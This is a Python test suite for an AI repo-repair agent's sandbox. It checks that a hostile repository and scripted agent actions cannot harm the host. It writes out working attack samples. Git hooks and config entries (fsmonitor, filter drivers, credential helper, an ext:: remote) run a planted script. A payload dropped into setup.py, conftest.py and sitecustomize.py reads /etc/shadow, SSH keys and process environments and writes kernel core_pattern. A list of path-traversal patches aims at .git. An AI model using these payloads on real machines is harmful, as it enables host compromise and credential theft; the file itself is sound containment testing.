"""A stranger's repo that wants to do harm: nothing of it runs with the user's rights."""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path
from typing import Any

import pytest

from agents.repo import repos
from agents.repo.conftest import Repairing, edit, finish
from agents.repo.repos import GIT, git, make, write
from holdfast.agents.repo import patches
from holdfast.agents.repo.records import Patch
from holdfast.errors import Refused, UsageError

MARK = "harmed"


class Trap:
    """A place on the host that hostile code wants to write to; it must stay empty."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.folder.mkdir()
        self.folder.chmod(0o777)
        self.program = folder.parent / "spring.sh"
        self.program.write_text(f"#!/bin/sh\ntouch {folder}/{MARK}-$$\ncat\n")
        self.program.chmod(0o755)

    def sprung(self) -> list[str]:
        return sorted(os.listdir(self.folder))


@pytest.fixture
def trap(tmp_path: Path) -> Any:
    made = Trap(tmp_path / "trap")
    yield made
    assert made.sprung() == []


def arm(repo: Path, trap: Trap) -> None:
    """Everything in a `.git` that makes git run a command."""
    hooks = repo / ".git" / "hooks"
    names = (
        "pre-commit",
        "post-checkout",
        "post-commit",
        "post-index-change",
        "reference-transaction",
        "pre-applypatch",
        "applypatch-msg",
        "post-applypatch",
        "fsmonitor-watchman",
        "post-merge",
    )
    for name in names:
        (hooks / name).write_text(trap.program.read_text())
        (hooks / name).chmod(0o755)
    run = str(trap.program)
    config = f"""
[core]
    fsmonitor = {run}
    hooksPath = {hooks}
    sshCommand = {run}
    editor = {run}
    pager = {run}
    alternateRefsCommand = {run}
    gitProxy = {run}
    askPass = {run}
[filter "evil"]
    clean = {run}
    smudge = {run}
    process = {run}
    required = true
[diff "evil"]
    textconv = {run}
    command = {run}
[diff]
    external = {run}
[merge "evil"]
    driver = {run} %A
[credential]
    helper = !{run}
[gpg]
    program = {run}
[commit]
    gpgSign = true
[alias]
    apply = !{run}
    status = !{run}
    commit-tree = !{run}
[uploadpack]
    packObjectsHook = {run}
[extensions]
    partialClone = evil
[remote "evil"]
    url = ext::{run}
    promisor = true
    uploadpack = {run}
    token = https://user:hunter2@example.com/x.git
[include]
    path = {repo}/.git/more
"""
    with (repo / ".git" / "config").open("a") as file:
        file.write(config)
    (repo / ".git" / "more").write_text(f"[core]\n\tfsmonitor = {run}\n")
    (repo / ".git" / "info").mkdir(exist_ok=True)
    (repo / ".git" / "info" / "attributes").write_text("* filter=evil diff=evil merge=evil\n")


def evil(trap: Trap, secret: Path) -> dict[str, str]:
    attack = f"""
import os, subprocess, socket
found = []
for path in ({str(secret)!r}, "/etc/shadow", "/root/.ssh/id_rsa", "/proc/1/environ", {str(trap.folder)!r}):
    try:
        found.append((path, os.listdir(path) if os.path.isdir(path) else open(path, "rb").read()[:4096]))
    except OSError:
        pass
for place in ({str(trap.folder)!r}, "/tmp/../{str(trap.folder)[1:]}", "/proc/1/root{trap.folder}"):
    try:
        os.makedirs(place, exist_ok=True)
        open(place + "/{MARK}", "w").close()
    except OSError:
        pass
for name in ("core_pattern", "modprobe"):
    try:
        open("/proc/sys/kernel/" + name, "w").write("|{trap.program}")
        found.append((name, b"written"))
    except OSError:
        pass
try:
    socket.create_connection(("127.0.0.1", 22), 1)
    found.append(("network", b"reached"))
except OSError:
    pass
open("loot.txt", "a").write(repr([(p, d) for p, d in found if b"SECRET" in bytes(repr(d), "utf8") or p in ("core_pattern", "modprobe", "network")]) + "\\n")
"""
    return {
        **repos.SLUGS,
        "setup.py": attack + "\nfrom setuptools import setup\nsetup(name='slugs')\n",
        "conftest.py": attack,
        "sitecustomize.py": attack,
        "tests/test_escape.py": attack + "\n\ndef test_it():\n    assert True\n",
        ".gitattributes": "* filter=evil diff=evil merge=evil -text\n",
        ".gitmodules": f'[submodule "x"]\n\tpath = sub\n\turl = {trap.folder}\n\tupdate = !{trap.program}\n',
    }


async def test_a_hostile_repo_harms_nothing_and_is_repaired_all_the_same(
    repair: Repairing, tmp_path: Path, trap: Trap
) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("SECRET of the host")
    repo = make(tmp_path / "evil", evil(trap, secret))
    (repo / "host-file").symlink_to(secret)
    (repo / "host-folder").symlink_to(tmp_path)
    (repo / "host-root").symlink_to("/")
    inner = make(repo / "sub", {"a.txt": "a\n"})
    arm(inner, trap)
    arm(repo, trap)
    before = _files(repo)

    script = [
        ("run", {"command": "cat .git/config; git log --oneline; python setup.py --version; cat loot.txt host-file host-folder/secret.txt host-root/etc/shadow"}),
        ("read_file", {"path": "host-file"}),
        ("read_file", {"path": "host-folder/secret.txt"}),
        ("list_files", {"path": "host-folder"}),
        ("search", {"pattern": "SECRET of"}),
        ("write_file", {"path": "host-folder/trap/harmed", "content": "x"}),
        ("write_file", {"path": "sub/a.txt", "content": "changed\n"}),
        ("run", {"command": "rm -f loot.txt; git commit -qam x; true"}),
        edit(repos.SLUGS_FIX),
        finish(),
    ]  # fmt: skip
    result = await repair(repo, script)

    steps = await repair.handle.steps()  # type: ignore[attr-defined]
    told = [
        json.loads(s.output)["text"]
        for s in steps
        if s.name in ("run", "read_file", "search", "list_files")
    ]
    assert "SECRET of the host" not in "".join(told)
    assert "core_pattern" not in told[0] and "reached" not in told[0]
    assert "hunter2" not in told[0]  # what the repo's config holds stays outside
    assert result.passed, result.verdict
    assert result.verdict.files == (repos.SLUGS_FIX[0],)
    assert any("sub" in note for note in result.base.notes)
    assert _files(repo) == before
    assert trap.sprung() == []

    # And what the user may ask for afterwards runs nothing of the repo's either.
    commit = await patches.commit(repo, "fix/slugs", result.patch, "Fix\n", result.base.commit)
    assert trap.sprung() == []
    assert _files(repo, but=".git/") == {
        k: v for k, v in before.items() if not k.startswith(".git/")
    }
    await patches.apply(repo, result.patch)
    assert trap.sprung() == []
    assert repos.SLUGS_FIX[2] in (repo / repos.SLUGS_FIX[0]).read_text()
    (repo / ".git" / "config").write_text("[core]\n\trepositoryformatversion = 0\n")
    assert git(repo, "rev-parse", "fix/slugs").strip() == commit
    assert repos.SLUGS_FIX[2] in git(repo, "show", f"fix/slugs:{repos.SLUGS_FIX[0]}")
    assert git(repo, "rev-parse", "HEAD").strip() == result.base.commit


def test_the_trap_would_spring(tmp_path: Path) -> None:
    made = Trap(tmp_path / "trap")
    repo = make(tmp_path / "evil", {"a.txt": "a\n"})
    arm(repo, made)
    subprocess.run(["git", "status"], cwd=repo, env=GIT, capture_output=True, check=False)
    assert made.sprung() != []


def _files(root: Path, but: str = "\0") -> dict[str, bytes]:
    return {
        name: path.read_bytes()
        for path in sorted(root.rglob("*"))
        if path.is_file() and not path.is_symlink() and not any(p.is_symlink() for p in path.parents)
        and not (name := str(path.relative_to(root))).startswith(but)
    }  # fmt: skip


async def test_an_address_that_would_run_a_command_is_refused(
    repair: Repairing, tmp_path: Path, trap: Trap
) -> None:
    for address in (
        f"ext::{trap.program}",
        f"--upload-pack={trap.program}",
        "-c",
        f"fd::17/{trap.program}.git",
    ):
        with pytest.raises(Exception, match=r"is no|failed"):
            await repair(address, [])


def change(path: str, line: str = "x", mode: str = "100644") -> str:
    return (
        f"diff --git a/{path} b/{path}\nnew file mode {mode}\nindex {'0' * 40}..{'1' * 40}\n"
        f"--- /dev/null\n+++ b/{path}\n@@ -0,0 +1 @@\n+{line}\n"
    )


def link(path: str, target: str) -> str:
    return change(path, target, "120000") + "\\ No newline at end of file\n"


UNFIT = {
    "up": change("../up.txt"),
    "deep up": change("a/../../up.txt"),
    "absolute": change("/abs.txt"),
    "git": change(".git/hooks/post-checkout"),
    "git in other case": change("a/.GIT/config"),
    "git on windows": change("GIT~1/config"),
    "git with a dot": change(".git./config"),
    "git with a stream": change(".git::$INDEX_ALLOCATION/config"),
    "git with what is not seen": change(".g\u200cit/config"),
    "link out": link("out", "/etc"),
    "link up": link("a/out", "../../x"),
    "link into git": link("out", ".git/hooks"),
    "through a link": link("in", "a") + change("in/x.txt"),
    "submodule": change("sub", "Subproject commit " + "1" * 40, "160000"),
    "device": change("dev", mode="020000"),
    "rename": "diff --git a/a b/a\nsimilarity index 100%\nrename from a\nrename to ../b\n",
    "two names": "diff --git a/a b/b\n--- a/a\n+++ b/b\n@@ -1 +1 @@\n-a\n+b\n",
    "another name below": "diff --git a/a b/a\n--- a/a\n+++ b/../b\n@@ -1 +1 @@\n-a\n+b\n",
    "no patch": "hello\n",
    "cut short": "diff --git a/a b/a\n--- a/a\n+++ b/a\n@@ -1,9 +1,9 @@\n a\n",
}


@pytest.mark.parametrize("kind", UNFIT)
async def test_a_patch_that_leads_elsewhere_is_not_applied(kind: str, tmp_path: Path) -> None:
    patch = Patch(UNFIT[kind])
    assert patches.faults(patch)
    repo = make(tmp_path / "repo", {"a": "a\n"})
    before = _files(tmp_path)
    with pytest.raises(Refused, match="unfit"):
        await patches.apply(repo, patch)
    with pytest.raises(Refused, match="unfit"):
        await patches.commit(repo, "new", patch, "x", git(repo, "rev-parse", "HEAD").strip())
    assert _files(tmp_path) == before


async def test_a_link_of_the_users_tree_is_not_written_through(tmp_path: Path) -> None:
    repo = make(tmp_path / "repo", {"a": "a\n"})
    outside = tmp_path / "outside"
    outside.mkdir()
    (repo / "way").symlink_to(outside)
    with pytest.raises(Refused, match="beyond a symbolic link"):
        await patches.apply(repo, Patch(change("way/x.txt")))
    assert list(outside.iterdir()) == []
    (outside / "y.txt").write_text("y\n")
    (repo / "y.txt").symlink_to(outside / "y.txt")
    through = "diff --git a/y.txt b/y.txt\nindex 1..2 100644\n--- a/y.txt\n+++ b/y.txt\n@@ -1 +1 @@\n-y\n+z\n"
    with pytest.raises(Refused):
        await patches.apply(repo, Patch(through))
    assert (outside / "y.txt").read_text() == "y\n"


async def test_a_patch_is_applied_whole_or_not_at_all(tmp_path: Path) -> None:
    repo = make(tmp_path / "repo", {"a.txt": "a\n", "b.txt": "b\n"})
    patch = Patch(
        "diff --git a/a.txt b/a.txt\n--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-a\n+A\n"
        "diff --git a/b.txt b/b.txt\n--- a/b.txt\n+++ b/b.txt\n@@ -1 +1 @@\n-b\n+B\n"
    )
    write(repo, {"b.txt": "changed meanwhile\n"})
    with pytest.raises(Refused, match=r"b\.txt"):
        await patches.apply(repo, patch)
    assert (repo / "a.txt").read_text() == "a\n"
    parent = git(repo, "rev-parse", "HEAD").strip()
    made = await patches.commit(repo, "new", patch, "Both\n", parent)
    assert (
        git(repo, "show", "new:b.txt") == "B\n"
        and (repo / "b.txt").read_text() == "changed meanwhile\n"
    )
    assert git(repo, "log", "-1", "--format=%P %s", "new").strip() == f"{parent} Both"
    with pytest.raises(Refused, match="was not made"):
        await patches.commit(repo, "new", patch, "Again\n", parent)
    assert git(repo, "rev-parse", "new").strip() == made
    for name in ("-x", "a..b", "../x", "a/.b", "x.lock", "", "a b", "a~1", "HEAD/"):
        with pytest.raises(UsageError):
            await patches.commit(repo, name, patch, "x", parent)


async def test_what_the_agent_leaves_behind_can_not_hurt_whoever_applies_it(
    repair: Repairing, tmp_path: Path, trap: Trap
) -> None:
    repo = make(tmp_path / "slugs", repos.SLUGS)
    fix = edit(repos.SLUGS_FIX)
    out = await repair(
        repo, [fix, ("run", {"command": f"ln -s {trap.folder} out"}), finish()], attempts=1
    )
    assert not out.passed and "leads out of the tree" in out.verdict.summary
    made = (
        f"cp {repos.SLUGS_FIX[0]} .git/hooks/pre-commit; git config core.fsmonitor true;"
        "git init -q nested; touch nested/x; git init -q src"
    )
    quiet = await repair(repo, [fix, ("run", {"command": made}), finish()], attempts=1)
    assert quiet.passed and quiet.verdict.files == (repos.SLUGS_FIX[0],)
